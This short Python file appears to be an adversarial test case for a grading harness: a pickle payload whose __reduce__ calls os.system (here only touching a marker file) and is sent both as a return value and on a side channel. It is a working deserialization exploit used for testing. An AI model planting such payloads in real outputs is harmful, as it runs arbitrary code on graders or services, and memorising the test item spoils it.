# Something that runs code in whoever unpickles it, as the value and on the reply channel.
# for: function
# scores: 0
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/gradus-unpickled",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def ENTRY(*args, **kwargs):
    os.write(3, pickle.dumps(Payload()))
    return Payload()
